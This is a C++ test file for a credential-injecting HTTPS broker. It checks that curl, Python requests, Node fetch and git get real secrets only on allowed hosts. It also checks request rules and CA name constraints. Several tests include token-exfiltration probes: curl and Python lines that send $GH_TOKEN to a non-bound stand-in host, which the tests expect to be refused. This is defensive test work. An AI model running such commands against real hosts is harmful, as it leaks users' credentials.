// Real clients through the broker: curl, Python requests, Node fetch and git
// (push over HTTPS with a credential helper). Each holds only the placeholder
// it finds in its environment; the server must receive the real secret.
#include <openssl/pem.h>

#include <fstream>

#include "broker/reasons.hpp"
#include "broker/run_ca.hpp"
#include "broker_harness.hpp"
#include "contains.hpp"

namespace px::broker::test {
namespace {

using px::test::contains;

class ClientsTest : public BrokerTest {
 protected:
  // The run's environment as the seal would set it (the bundle at its real
  // path here: no seal mounts it over the system bundle in these tests),
  // without any proxy variable or CA setting inherited from the test's.
  std::vector<std::string> run_env(bool with_proxy = true) const {
    std::vector<std::string> env = {"NO_PROXY=",
                                    "no_proxy=",
                                    "HTTP_PROXY=",
                                    "http_proxy=",
                                    "ALL_PROXY=",
                                    "all_proxy=",
                                    "HOME=" + dir_.string(),
                                    "GIT_CONFIG_NOSYSTEM=1",
                                    "GIT_TERMINAL_PROMPT=0"};
    for (const auto& [k, v] : broker_->environment(broker_->trust_files().bundle.string()))
      env.push_back(k + "=" + v);
    const std::string proxy = "http://127.0.0.1:" + std::to_string(front_->connect_port());
    env.push_back("HTTPS_PROXY=" + (with_proxy ? proxy : ""));
    env.push_back("https_proxy=" + (with_proxy ? proxy : ""));
    return env;
  }
  std::string url(const std::string& host, const std::string& path) const {
    return "https://" + host + ":" + std::to_string(upstream_->port()) + path;
  }
  bool server_saw(const std::string& needle) const {
    for (const auto& r : upstream_->requests()) {
      if (contains(r.dump(), needle)) return true;
    }
    return false;
  }
};

TEST_F(ClientsTest, Curl) {
  if (!have_tool("curl")) GTEST_SKIP() << "curl is not installed";
  start();
  const std::string ph = placeholder("github");
  auto env = run_env();
  const CommandResult ok = run_with_env(
      env, {"sh", "-c",
            "curl -sS --max-time 10 -H \"Authorization: Bearer $GH_TOKEN\" " + url("bound.test", "/echo")});
  EXPECT_EQ(ok.status, 0) << ok.output;
  EXPECT_TRUE(contains(ok.output, "Bearer " + ph)) << ok.output;
  EXPECT_FALSE(contains(ok.output, kGithubSecret));
  EXPECT_TRUE(server_saw("Bearer " + kGithubSecret));
  EXPECT_FALSE(server_saw(ph));

  // Exfiltration probes: a non-bound host, in the query, in a body.
  for (const std::string& probe :
       {"curl -s -o /dev/null -w '%{http_code}' --max-time 10 -H \"X-T: $GH_TOKEN\" " +
            url("rules.test", "/"),
        "curl -s -o /dev/null -w '%{http_code}' --max-time 10 \"" + url("rules.test", "/?t=$GH_TOKEN") + "\"",
        "curl -s -o /dev/null -w '%{http_code}' --max-time 10 --data \"token=$GH_TOKEN\" " +
            url("rules.test", "/o/r.git/git-receive-pack")}) {
    const CommandResult r = run_with_env(env, {"sh", "-c", probe});
    EXPECT_EQ(r.output, "403") << probe;
  }
  EXPECT_FALSE(server_saw(ph));

  // A client that does not trust the run's CA (only the system's) is refused, and says why.
  env.push_back("CURL_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt");
  const CommandResult untrusting =
      run_with_env(env, {"curl", "-sS", "--max-time", "10", url("bound.test", "/")});
  EXPECT_EQ(untrusting.status, 60) << untrusting.output;
  EXPECT_TRUE(front_->wait_ends(5));
  front_.reset();
  const std::string log = read_file(dir_ / "requests.jsonl");
  EXPECT_TRUE(contains(log, std::string(reason::client_refused_ca))) << log;
  EXPECT_FALSE(contains(log, ph));
  EXPECT_FALSE(contains(log, kGithubSecret));
}

TEST_F(ClientsTest, PythonRequests) {
  if (run_command({"python3", "-c", "import requests"}).status != 0)
    GTEST_SKIP() << "python3 requests is not installed";
  start();
  const std::string script =
      "import os, requests\n"
      "r = requests.get('" +
      url("bound.test", "/echo") +
      "', headers={'Authorization': 'token ' + os.environ['GH_TOKEN']})\n"
      "print(r.status_code)\n"
      "print(r.text)\n"
      "r = requests.post('" +
      url("rules.test", "/o/r.git/git-receive-pack") +
      "', data={'leak': os.environ['GH_TOKEN']})\n"
      "print(r.status_code, r.headers.get('x-proxy-error'))\n";
  const CommandResult r = run_with_env(run_env(), {"python3", "-c", script});
  EXPECT_EQ(r.output.substr(0, 4), "200\n") << r.output;
  EXPECT_TRUE(contains(r.output, "403 credential-exfiltration")) << r.output;
  EXPECT_FALSE(contains(r.output, kGithubSecret));
  EXPECT_TRUE(server_saw("token " + kGithubSecret));
  EXPECT_FALSE(server_saw(placeholder("github")));
}

TEST_F(ClientsTest, PythonWebSocketThroughTheRelay) {
  start();
  // A WebSocket handshake, then bytes both ways through the tunnel it becomes.
  const std::string script =
      "import os, socket, ssl\n"
      "s = socket.create_connection(('127.0.0.1', " +
      std::to_string(front_->connect_port()) +
      "))\n"
      "s.sendall(b'CONNECT ws.test:" +
      std::to_string(upstream_->port()) +
      " HTTP/1.1\\r\\n\\r\\n')\n"
      "assert s.recv(1024).startswith(b'HTTP/1.1 200')\n"
      "t = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE']).wrap_socket(s, "
      "server_hostname='ws.test')\n"
      "t.sendall(b'GET /ws HTTP/1.1\\r\\nHost: ws.test:" +
      std::to_string(upstream_->port()) +
      "\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n\\r\\n')\n"
      "head = b''\n"
      "while b'\\r\\n\\r\\n' not in head: head += t.recv(1)\n"
      "print(head.split(b'\\r\\n')[0].decode())\n"
      "for m in (b'ping', b'x' * 100000):\n"
      "    t.sendall(m)\n"
      "    got = b''\n"
      "    while len(got) < len(m): got += t.recv(65536)\n"
      "    print(len(got), got == m)\n";
  const CommandResult r = run_with_env(run_env(), {"python3", "-c", script});
  EXPECT_EQ(r.output, "HTTP/1.1 101 Switching Protocols\n4 True\n100000 True\n") << r.output;
}

TEST_F(ClientsTest, NodeFetchOnACapturedConnection) {
  if (!have_tool("node")) GTEST_SKIP() << "node is not installed";
  start();
  // Node's fetch ignores proxy variables: it reaches the broker the way a
  // captured connection does (its resolver sends api.anthropic.test to the
  // front's capture port), and trusts the run CA through NODE_EXTRA_CA_CERTS.
  const std::string target = "https://api.anthropic.test:" + std::to_string(front_->capture_port());
  const std::string script =
      "const dns = require('dns'); const lookup = dns.lookup;\n"
      "dns.lookup = (n, o, c) => { if (typeof o === 'function') { c = o; o = {}; } return "
      "lookup('127.0.0.1', o, c); };\n"
      "(async () => {\n"
      "  for (const i of [1, 2]) {\n"
      "    const r = await fetch('" +
      target +
      "/echo/' + i, {method: 'POST', headers: {'x-api-key': process.env.ANTHROPIC_API_KEY,"
      " 'content-type': 'application/json'}, body: JSON.stringify({n: i})});\n"
      "    const j = await r.json();\n"
      "    console.log(r.status, j.headers['x-api-key'] === process.env.ANTHROPIC_API_KEY, j.body);\n"
      "  }\n"
      "})().catch(e => { console.log('ERR', e.cause ? e.cause.code : '', e.message); });\n";
  const CommandResult r = run_with_env(run_env(false), {"node", "-e", script});
  EXPECT_EQ(r.output, "200 true {\"n\":1}\n200 true {\"n\":2}\n") << r.output;
  EXPECT_TRUE(server_saw(kAnthropicSecret));
  EXPECT_FALSE(server_saw(placeholder("anthropic")));
  EXPECT_GT(front_->early_bytes_passed(), 0u);
}

TEST_F(ClientsTest, GitPushWithTheCredentialHelperAndRequestRules) {
  if (!have_tool("git")) GTEST_SKIP() << "git is not installed";
  // A server that takes the real token only, with two repositories; the
  // rules let the agent push to one of them.
  const auto root = dir_ / "git";
  std::filesystem::create_directories(root);
  const std::vector<std::string> genv = {"HOME=" + dir_.string(), "GIT_CONFIG_NOSYSTEM=1",
                                         "GIT_AUTHOR_NAME=t",     "GIT_AUTHOR_EMAIL=t@t",
                                         "GIT_COMMITTER_NAME=t",  "GIT_COMMITTER_EMAIL=t@t"};
  for (const char* repo : {"repo.git", "other.git"}) {
    ASSERT_EQ(run_command({"git", "init", "-q", "--bare", (root / repo).string()}, genv).status, 0);
  }
  const std::string work = (dir_ / "work").string();
  ASSERT_EQ(run_command({"git", "init", "-q", work}, genv).status, 0);
  std::ofstream(dir_ / "work" / "README") << "brokered\n";
  ASSERT_EQ(run_command({"git", "-C", work, "add", "README"}, genv).status, 0);
  ASSERT_EQ(run_command({"git", "-C", work, "commit", "-q", "-m", "one"}, genv).status, 0);
  upstream_ = std::make_unique<UpstreamServer>(TestPki::get().server, dir_, root, kGithubSecret);
  ASSERT_TRUE(upstream_->running());
  start([](BrokerConfig& c) {
    HostRequestRules rules;
    rules.host = "bound.test";
    for (const auto& [action, spec] :
         std::vector<std::pair<const char*, const char*>>{{"allow", "GET,HEAD /**"},
                                                          {"allow", "POST /git/*.git/git-upload-pack"},
                                                          {"allow", "POST /git/repo.git/git-receive-pack"},
                                                          {"deny", "* /**"}}) {
      rules.rules.push_back(parse_request_rule(action, spec, "push only to my repos").value());
    }
    c.hosts.push_back(rules);
  });
  std::vector<std::string> env = run_env();
  for (const auto& g : genv) env.push_back(g);
  // The credential helper hands git the placeholder from the environment, as
  // gh's helper would hand it the token it finds there.
  const std::vector<std::string> git = {
      "git",
      "-C",
      work,
      "-c",
      "credential.helper=",
      "-c",
      "credential.helper=!f() { echo username=x-access-token; echo password=$GH_TOKEN; }; f"};
  auto push = [&](const std::string& repo) {
    std::vector<std::string> argv = git;
    argv.insert(argv.end(), {"push", url("bound.test", "/git/" + repo), "HEAD:refs/heads/main"});
    return run_with_env(env, argv);
  };
  const CommandResult pushed = push("repo.git");
  EXPECT_EQ(pushed.status, 0) << pushed.output;
  const CommandResult log =
      run_command({"git", "--git-dir", (root / "repo.git").string(), "log", "--format=%s", "main"}, genv);
  EXPECT_EQ(log.output, "one\n") << log.output;
  EXPECT_TRUE(server_saw(proxy::test::basic_auth("x-access-token", kGithubSecret)));
  EXPECT_FALSE(server_saw(placeholder("github")));

  const CommandResult refused = push("other.git");
  EXPECT_NE(refused.status, 0);
  EXPECT_TRUE(contains(refused.output, "403")) << refused.output;
  EXPECT_NE(
      run_command({"git", "--git-dir", (root / "other.git").string(), "rev-parse", "main"}, genv).status, 0)
      << "nothing was pushed to the other repository";
  front_.reset();
  bool receive_pack_refused = false;
  for (const auto& l : log_lines()) {
    if (l.value("path", "") == "/git/other.git/git-receive-pack" && l["reason"] == reason::rule_denied)
      receive_pack_refused = true;
  }
  EXPECT_TRUE(receive_pack_refused) << read_file(dir_ / "requests.jsonl");
}

// A leaf the run's CA signed for a name outside its constraints: every client
// refuses it, whatever trusts the CA. Served directly (no broker in between).
TEST_F(ClientsTest, ClientsHonourTheRunCasNameConstraints) {
  start();
  auto ca = RunCa::create({"bound.test"});
  ASSERT_TRUE(ca);
  const auto bundle = dir_ / "ca-only.crt";
  write_file(bundle, ca.value()->certificate_pem());
  const auto serve = [&](const std::string& name) {
    auto leaf = ca.value()->mint_unchecked_for_test(name);
    EXPECT_TRUE(leaf);
    CertFiles files{dir_ / (name + ".crt"), dir_ / (name + ".key")};
    write_file(files.cert, to_pem(leaf.value()->certificate.get()));
    BIO* bio = BIO_new(BIO_s_mem());
    PEM_write_bio_PrivateKey(bio, leaf.value()->key, nullptr, nullptr, 0, nullptr, nullptr);
    char* data = nullptr;
    const long n = BIO_get_mem_data(bio, &data);
    write_file(files.key, std::string(data, static_cast<std::size_t>(n)));
    BIO_free(bio);
    return std::make_unique<UpstreamServer>(files, dir_);
  };
  struct Outcome {
    std::string client;
    bool inside, outside;
  };
  std::vector<Outcome> outcomes;
  for (const std::string name : {"bound.test", "outside.test"}) {
    auto server = serve(name);
    ASSERT_TRUE(server->running());
    const std::string port = std::to_string(server->port());
    const std::string u = "https://" + name + ":" + port + "/";
    const bool inside = name == "bound.test";
    const auto record = [&](const std::string& client, bool ok) {
      auto it = std::find_if(outcomes.begin(), outcomes.end(),
                             [&](const Outcome& o) { return o.client == client; });
      if (it == outcomes.end()) it = outcomes.insert(outcomes.end(), Outcome{client, false, false});
      (inside ? it->inside : it->outside) = ok;
    };
    if (have_tool("curl")) {
      record("curl", run_with_env({"-CURL_CA_BUNDLE", "-SSL_CERT_DIR"},
                                  {"curl", "-sS", "--max-time", "5", "--cacert", bundle.string(), "--capath",
                                   "/nonexistent", "--resolve", name + ":" + port + ":127.0.0.1", u})
                             .status == 0);
    }
    if (run_command({"python3", "-c", "import requests"}).status == 0) {
      record("python", run_command({"python3", "-c",
                                    "import socket, requests\n"
                                    "real = socket.getaddrinfo\n"
                                    "socket.getaddrinfo = lambda h, *a, **k: real('127.0.0.1', *a, **k)\n"
                                    "requests.get('" +
                                        u + "', verify='" + bundle.string() + "', timeout=5)\n"})
                               .status == 0);
    }
    if (have_tool("node")) {
      record("node", run_with_env({"NODE_EXTRA_CA_CERTS=" + bundle.string()},
                                  {"node", "-e",
                                   "const dns = require('dns'); const l = dns.lookup;\n"
                                   "dns.lookup = (n, o, c) => { if (typeof o === 'function') { c = o; o = "
                                   "{}; } return l('127.0.0.1', o, c); };\n"
                                   "fetch('" +
                                       u + "').then(() => process.exit(0), () => process.exit(1));"})
                             .status == 0);
    }
    if (have_tool("git")) {
      // git (GnuTLS on Debian): the server is no git server, so a verified
      // connection ends in "not valid", a refused one in a certificate error.
      const CommandResult g =
          run_with_env({"-GIT_SSL_CAINFO", "GIT_CONFIG_NOSYSTEM=1", "HOME=" + dir_.string()},
                       {"git", "-c", "http.curloptResolve=" + name + ":" + port + ":127.0.0.1", "-c",
                        "http.sslCAInfo=" + bundle.string(), "ls-remote", u + "x"});
      record("git", !contains(g.output, "certificate") && !contains(g.output, "SSL"));
    }
  }
  ASSERT_FALSE(outcomes.empty());
  for (const auto& o : outcomes) {
    EXPECT_TRUE(o.inside) << o.client << " refused a leaf inside the constraints";
    EXPECT_FALSE(o.outside) << o.client << " accepted a leaf outside the run CA's name constraints";
  }
}

}  // namespace
}  // namespace px::broker::test
